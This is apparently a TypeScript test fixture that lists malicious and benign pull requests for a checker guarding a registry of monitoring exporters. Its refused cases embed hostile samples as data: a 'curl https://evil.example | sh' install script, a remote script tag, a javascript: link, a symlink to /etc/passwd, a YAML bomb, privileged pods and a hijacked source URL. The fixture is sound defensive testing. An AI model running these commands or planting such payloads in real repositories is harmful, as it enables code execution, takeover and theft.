import { demoFiles } from "./demo"

/** Files of a repository by path: a text, or a link, a submodule, bytes, or an executable. */
export type Files = Record<
  string,
  string | { link: string } | { submodule: string } | { bytes: Buffer } | { run: string }
>

/** One pull request: what it does to the files of the base, and what is to be said of it. */
export interface PullRequest {
  name: string
  author?: string
  change(files: Files): void
}

/** A pull request that must be refused, with the one thing that is wrong with it. */
export interface BadRequest extends PullRequest {
  check: string
  file: string
  line: number
  message: string
}

/** A pull request that must pass, with its label. */
export interface GoodRequest extends PullRequest {
  label: "owner-change" | "safe-bump" | "needs-review"
  reason: string
}

const DEMO = "catalog/demo-exporter"
const OTHER = "catalog/other-exporter"

/** The base of all: the demo entry twice, under two names, beside some code. */
export async function baseFiles(): Promise<Record<string, string>> {
  const demo = Object.entries(await demoFiles())
  return {
    "README.md": "# A registry\n",
    "scripts/tool.ts": "export {}\n",
    ...Object.fromEntries(demo.map(([path, text]) => [`catalog/${path}`, text])),
    ...Object.fromEntries(demo.map(([path, text]) => [`catalog/${path.replace("demo", "other")}`, asOther(text)])),
  }
}

/** The demo's files as those of another project. */
function asOther(text: string, name = "other"): string {
  return text
    .replace("aliases: [demo]", `aliases: [${name}]`)
    .replace("https://example.com/demo\n", `https://example.com/${name}\n`)
    .replace("maintainers: [someone]", `maintainers: [${name}-owner]`)
}

function edit(files: Files, path: string, from: string, to: string): void {
  const text = files[path]
  if (typeof text !== "string" || !text.includes(from)) throw new Error(`${path} does not have ${from}`)
  files[path] = text.replace(from, () => to)
}

function copyEntry(files: Files, from: string, to: string, change = (text: string) => text): void {
  for (const [path, text] of Object.entries(files))
    if (path.startsWith(`${from}/`) && typeof text === "string") files[path.replace(from, to)] = change(text)
}

function removeEntry(files: Files, folder: string): void {
  for (const path of Object.keys(files)) if (path.startsWith(`${folder}/`)) delete files[path]
}

const ALERTS = `${DEMO}/rules/alerts.yaml`
const ENTRY = `${DEMO}/entry.yaml`
const README = `${DEMO}/README.md`
const CAPTURE = `${DEMO}/captures/1.2.0.prom`

/** Adds a version of the demo that was recorded with a capture like the last one. */
function bumpDemo(files: Files, version: string, change = (text: string) => text): void {
  for (const state of ["", "-stopped"]) {
    const text = files[`${DEMO}/captures/1.2.0${state}.prom`]
    if (typeof text !== "string") throw new Error("no capture")
    const recorded = text.replace("exporter-version: 1.2.0", `exporter-version: ${version}`)
    files[`${DEMO}/captures/${version}${state}.prom`] = change(recorded)
  }
  const block = `versions:
  - version: ${version}
    image: docker.io/example/demo:v${version}
    capture: captures/${version}.prom
    states:
      - name: stopped
        description: The demo server does not run.
        capture: captures/${version}-stopped.prom
`
  edit(files, ENTRY, "versions:\n", block)
}

const at = (check: string, file: string, line: number, message: string) => ({ check, file, line, message })

export const badRequests: readonly BadRequest[] = [
  {
    name: "an invented metric",
    change: (files) =>
      edit(files, `${DEMO}/dashboards/overview.yaml`, "rate(demo_requests_total{", "rate(demo_requests_done_total{"),
    ...at(
      "metric-known",
      `${DEMO}/dashboards/overview.yaml`,
      20,
      "The metric demo_requests_done_total is not in the captures of demo-exporter 1.2.0",
    ),
  },
  {
    name: "a stolen id: the entry leads to another project",
    author: "mallory",
    change: (files) => edit(files, ENTRY, "source: https://example.com/demo\n", "source: https://evil.example/demo\n"),
    ...at("stolen-id", ENTRY, 8, "demo-exporter would lead to another source"),
  },
  {
    name: "a stolen id: other maintainers in place of all",
    author: "mallory",
    change: (files) => edit(files, ENTRY, "maintainers: [someone]", "maintainers: [mallory]"),
    ...at("stolen-id", ENTRY, 10, "demo-exporter would lose all of its maintainers"),
  },
  {
    name: "a renamed folder",
    change(files) {
      copyEntry(files, DEMO, "catalog/demo")
      removeEntry(files, DEMO)
    },
    ...at("renamed-id", "catalog/demo/entry.yaml", 1, "demo-exporter is renamed to demo"),
  },
  {
    name: "an id that looks like another",
    change: (files) => copyEntry(files, DEMO, "catalog/dem0-exporter", (text) => asOther(text, "third")),
    ...at("id-clash", "catalog/dem0-exporter/entry.yaml", 1, "dem0-exporter is too much like demo-exporter"),
  },
  {
    name: "an alias that is another entry's id",
    change: (files) => edit(files, ENTRY, "aliases: [demo]", "aliases: [demo, other-exporter]"),
    ...at("id-clash", ENTRY, 7, "The alias other-exporter is the id of another entry"),
  },
  {
    name: "a script in the README",
    change: (files) =>
      edit(
        files,
        README,
        "What it measures.",
        'What it measures.\n\n<script src="https://evil.example/x.js"></script>',
      ),
    ...at("unsafe-markup", README, 5, "script has no place in a text"),
  },
  {
    name: "a link that runs code in a runbook",
    change: (files) => edit(files, `${DEMO}/runbooks/DemoDown.md`, "Look.", "[Look](javascript:alert(1))."),
    ...at("unsafe-markup", `${DEMO}/runbooks/DemoDown.md`, 16, "javascript has no place in a text"),
  },
  {
    name: "a privileged pod",
    change: (files) =>
      edit(
        files,
        ENTRY,
        "  workload: Deployment",
        "  workload: Deployment\n  privileges:\n    reason: It reads events of the kernel.\n    capabilities: [SYS_ADMIN]",
      ),
    ...at("pod-privileges", ENTRY, 49, "The capability SYS_ADMIN makes the pod root on its node"),
  },
  {
    name: "a pod that may write to the cluster",
    change: (files) =>
      edit(
        files,
        ENTRY,
        "  workload: Deployment",
        '  workload: Deployment\n  rbac:\n    scope: cluster\n    rules: [{ apiGroups: [""], resources: [pods], verbs: [get, delete] }]',
      ),
    ...at("pod-privileges", ENTRY, 49, "An exporter reads: not delete"),
  },
  {
    name: "a pod with the container runtime's socket",
    change: (files) =>
      edit(
        files,
        ENTRY,
        "  workload: Deployment",
        "  workload: Deployment\n  privileges:\n    reason: It lists the containers of the node.\n    hostPaths: [{ path: /var/run/docker.sock, mount: /docker.sock }]",
      ),
    ...at("pod-privileges", ENTRY, 49, "With /var/run/docker.sock of the node the pod can rule the node"),
  },
  {
    name: "a privileged container by a key of Kubernetes",
    change: (files) => edit(files, ENTRY, "  workload: Deployment", "  workload: Deployment\n  privileged: true"),
    ...at("schema", ENTRY, 47, 'Unknown key "privileged" in deploy'),
  },
  {
    name: "a secret in a capture",
    change: (files) =>
      edit(
        files,
        CAPTURE,
        "# HELP demo_memory_used_bytes",
        '# HELP demo_target_info The server.\n# TYPE demo_target_info gauge\ndemo_target_info{addr="redis://admin:hunter2@db:6379"} 1\n# HELP demo_memory_used_bytes',
      ),
    ...at("capture-secret", CAPTURE, 15, "demo_target_info shows a password in an address in addr"),
  },
  {
    name: "a YAML bomb",
    change(files) {
      const levels = Array.from(
        { length: 9 },
        (_, i) => `l${i + 1}: &l${i + 1} [${Array(9).fill(`*l${i}`).join(", ")}]`,
      )
      files[ALERTS] = ["l0: &l0 [x, x, x, x, x, x, x, x, x]", ...levels, ""].join("\n")
    },
    ...at("yaml-syntax", ALERTS, 5, "liases"),
  },
  {
    name: "YAML of a thousand levels",
    change(files) {
      files[ALERTS] = `groups: ${"[".repeat(1000)}${"]".repeat(1000)}\n`
    },
    ...at("yaml-syntax", ALERTS, 1, "Nested more than 200 levels deep"),
  },
  {
    name: "a symbolic link out of the folder",
    change(files) {
      files[README] = { link: "../../../../etc/passwd" }
    },
    ...at("file-kind", README, 1, "demo-exporter/README.md is a symbolic link"),
  },
  {
    name: "a submodule",
    change(files) {
      files[`${DEMO}/rules/shared`] = { submodule: "1234567890123456789012345678901234567890" }
    },
    ...at("file-kind", `${DEMO}/rules/shared`, 1, "demo-exporter/rules/shared is a submodule"),
  },
  {
    name: "an executable file",
    change(files) {
      files[README] = { run: "#!/bin/sh\n" }
    },
    ...at("file-kind", README, 1, "demo-exporter/README.md is executable"),
  },
  {
    name: "a dashboard of 50 MB",
    change(files) {
      files[`${DEMO}/dashboards/large.yaml`] = `title: ${"x".repeat(50 * 1024 * 1024 - 7)}`
    },
    ...at(
      "file-size",
      `${DEMO}/dashboards/large.yaml`,
      1,
      "demo-exporter/dashboards/large.yaml has 50 MiB; at most 1 are taken",
    ),
  },
  {
    name: "a thousand files",
    change(files) {
      for (let i = 0; i < 1000; i++) files[`${DEMO}/runbooks/Alert${String(i).padStart(4, "0")}.md`] = "x\n"
    },
    ...at(
      "file-count",
      `${DEMO}/runbooks/Alert0000.md`,
      1,
      "1000 files change; more than 300 are not reviewed at once",
    ),
  },
  {
    name: "a capture that is compressed",
    change(files) {
      files[CAPTURE] = { bytes: Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]) }
    },
    ...at("binary-file", CAPTURE, 1, "The file is not UTF-8 text"),
  },
  {
    name: "an id with a Cyrillic letter",
    change(files) {
      files["catalog/d\u0435mo-exporter/entry.yaml"] = "schema: exporterhub/v1\n"
    },
    ...at(
      "unusual-name",
      "catalog/d\u0435mo-exporter/entry.yaml",
      1,
      "The path d?mo-exporter/entry.yaml has the character U+0435",
    ),
  },
  {
    name: "two names that differ in case",
    change(files) {
      files[`${DEMO}/Readme.md`] = "# Another\n"
    },
    ...at(
      "unusual-name",
      `${DEMO}/Readme.md`,
      1,
      "demo-exporter/Readme.md differs from demo-exporter/README.md only in case",
    ),
  },
  {
    name: "Git attributes that hide the diff",
    change(files) {
      files[`${DEMO}/.gitattributes`] = "*.yaml -diff\n"
    },
    ...at(
      "git-attributes",
      `${DEMO}/.gitattributes`,
      1,
      "demo-exporter/.gitattributes changes how Git treats the registry",
    ),
  },
  {
    name: "code together with an entry",
    change(files) {
      edit(files, README, "What it measures.", "What it really measures.")
      files["scripts/tool.ts"] = "process.exit(0)\n"
    },
    ...at("mixed-change", "scripts/tool.ts", 1, "scripts/tool.ts changes together with entries"),
  },
  {
    name: "owners that nobody named",
    change(files) {
      edit(files, README, "What it measures.", "What it really measures.")
      files[".github/CODEOWNERS"] = "* @mallory\n"
    },
    ...at("code-owners", ".github/CODEOWNERS", 1, "CODEOWNERS is not what the entries say"),
  },
  {
    name: "an alert without test",
    change(files) {
      edit(
        files,
        ALERTS,
        "  - name: demo-capacity",
        `      - alert: DemoErrors
        expr: rate(demo_requests_total{code="500"}[5m]) > 1
        for: 5m
        labels: { severity: warning }
        annotations: { summary: Errors, description: Requests fail. }
  - name: demo-capacity`,
      )
      const runbook = files[`${DEMO}/runbooks/DemoDown.md`]
      if (typeof runbook === "string")
        files[`${DEMO}/runbooks/DemoErrors.md`] = runbook.replaceAll("DemoDown", "DemoErrors")
    },
    ...at("alert-tested", ALERTS, 12, "DemoErrors has no unit test"),
  },
  {
    name: "a copied text without a licence",
    change: (files) =>
      edit(files, README, "What it measures.", "What it measures.\n\nCopyright 2024 Some Vendor. All rights reserved."),
    ...at("copied-text", README, 5, '"Copyright 20'),
  },
  {
    name: "a text that turns its direction",
    change: (files) => edit(files, ALERTS, "is down", "is \u202edown"),
    ...at("hidden-text", ALERTS, 10, "There is an invisible character U+202E"),
  },
  {
    name: "a capture of another version",
    change: (files) =>
      bumpDemo(files, "1.3.0", (text) =>
        text.includes("demo_last_error") ? text : text.replace("exporter-version: 1.3.0", "exporter-version: 1.2.0"),
      ),
    ...at("capture-version", ENTRY, 12, "captures/1.3.0.prom was recorded with version 1.2.0, not 1.3.0"),
  },
  {
    name: "a shell script in an entry",
    change(files) {
      files[`${DEMO}/install.sh`] = "curl https://evil.example | sh\n"
    },
    ...at("stray-file", `${DEMO}/install.sh`, 1, "This file has no place in an entry"),
  },
  {
    name: "a silence without a reason",
    change: (files) => edit(files, ALERTS, "        for: 2m", "        for: 2m # exporterhub: ignore alert-for"),
    ...at("silence", ALERTS, 6, "reason"),
  },
]

const WORDS = (files: Files): void => edit(files, README, "What it measures.", "What it measures, in more words.")

export const goodRequests: readonly GoodRequest[] = [
  {
    name: "its maintainer writes more into the README",
    author: "someone",
    change: WORDS,
    label: "owner-change",
    reason: "someone maintains every entry that changes",
  },
  {
    name: "its maintainer, in other case",
    author: "SomeOne",
    change: WORDS,
    label: "owner-change",
    reason: "SomeOne maintains every entry that changes",
  },
  {
    name: "somebody else writes more into the README",
    author: "helper",
    change: WORDS,
    label: "needs-review",
    reason: "helper does not maintain demo-exporter",
  },
  {
    name: "nobody knows who writes more into the README",
    change: WORDS,
    label: "needs-review",
    reason: "The author does not maintain demo-exporter",
  },
  {
    name: "a new version that changes no metric",
    author: "helper",
    change: (files) => bumpDemo(files, "1.3.0"),
    label: "safe-bump",
    reason: "A new version whose capture changes no metric that a rule or panel uses",
  },
  {
    name: "a new version with a metric more",
    author: "helper",
    change: (files) =>
      bumpDemo(files, "1.3.0", (text) =>
        text.includes("demo_last_error") ? text : `${text}# HELP demo_new New.\n# TYPE demo_new gauge\ndemo_new 1\n`,
      ),
    label: "safe-bump",
    reason: "A new version whose capture changes no metric that a rule or panel uses",
  },
  {
    name: "a new version from another image repository, by somebody else",
    author: "helper",
    change(files) {
      bumpDemo(files, "1.3.0")
      edit(files, ENTRY, "docker.io/example/demo:v1.3.0", "docker.io/helper/demo:v1.3.0")
    },
    label: "needs-review",
    reason: "helper does not maintain demo-exporter",
  },
  {
    name: "a new version with a tag that can move, by somebody else",
    author: "helper",
    change(files) {
      bumpDemo(files, "1.3.0")
      edit(files, ENTRY, "docker.io/example/demo:v1.3.0", "docker.io/example/demo:latest")
    },
    label: "needs-review",
    reason: "helper does not maintain demo-exporter",
  },
  {
    name: "a new version that says something else of an older one",
    author: "helper",
    change(files) {
      bumpDemo(files, "1.3.0")
      edit(files, ENTRY, "docker.io/example/demo:v1.2.0", "docker.io/example/demo:v1.2.1")
    },
    label: "needs-review",
    reason: "helper does not maintain demo-exporter",
  },
  {
    name: "a new version together with another threshold",
    author: "helper",
    change(files) {
      bumpDemo(files, "1.3.0")
      edit(files, ALERTS, "for: 2m", "for: 3m")
    },
    label: "needs-review",
    reason: "helper does not maintain demo-exporter",
  },
  {
    name: "its maintainer takes the image from elsewhere",
    author: "someone",
    change(files) {
      bumpDemo(files, "1.3.0")
      edit(files, ENTRY, "docker.io/example/demo:v1.3.0", "ghcr.io/example/demo:v1.3.0")
    },
    label: "needs-review",
    reason: "demo-exporter gets its image from elsewhere",
  },
  {
    name: "a new entry",
    author: "newcomer",
    change: (files) => copyEntry(files, DEMO, "catalog/third-exporter", (text) => asOther(text, "third")),
    label: "needs-review",
    reason: "third-exporter is new",
  },
  {
    name: "its maintainer gets a helper",
    author: "someone",
    change: (files) => edit(files, ENTRY, "maintainers: [someone]", "maintainers: [someone, helper]"),
    label: "needs-review",
    reason: "demo-exporter gets other maintainers",
  },
  {
    name: "two entries, of which its author maintains one",
    author: "someone",
    change(files) {
      WORDS(files)
      edit(files, `${OTHER}/README.md`, "What it measures.", "More.")
    },
    label: "needs-review",
    reason: "someone does not maintain other-exporter",
  },
  {
    name: "only code",
    author: "someone",
    change(files) {
      files["scripts/tool.ts"] = "export const a = 1\n"
    },
    label: "needs-review",
    reason: "No entry changes",
  },
  {
    name: "a threshold with its test, by its maintainer",
    author: "someone",
    change(files) {
      edit(files, ALERTS, "for: 2m", "for: 3m")
    },
    label: "owner-change",
    reason: "someone maintains every entry that changes",
  },
]
